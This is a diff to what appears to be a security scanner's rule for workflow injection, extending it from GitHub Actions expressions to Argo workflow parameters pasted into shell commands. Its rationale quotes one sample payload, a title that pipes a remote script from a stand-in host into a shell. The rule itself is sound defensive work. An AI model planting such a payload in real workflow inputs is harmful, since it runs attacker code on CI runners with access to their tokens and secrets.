@@ -461,7 +461,9 @@ WORKFLOW_INJECTION = _rule(
     summary="A GitHub Actions `run:` script (or an `actions/github-script` script) contains a "
     "`${{ }}` expression of data that whoever opens an issue, a pull request, a comment or a "
     "branch, or fills in a dispatch form, chooses: `github.event.issue.title`, "
-    "`github.event.pull_request.body`, `github.head_ref`, `github.event.inputs.*`...",
+    "`github.event.pull_request.body`, `github.head_ref`, `github.event.inputs.*`...; or an "
+    "Argo workflow pastes a submission parameter (`{{workflow.parameters.*}}`) into a "
+    "shell's `-c` string or a script template's `source`.",
     rationale="The expression is pasted into the script before the shell runs it, so a title "
     'such as `"; curl evil.sh | sh; "` runs on the runner, with the job\'s token and secrets '
     "(on self-hosted GPU runners, inside the training network).",
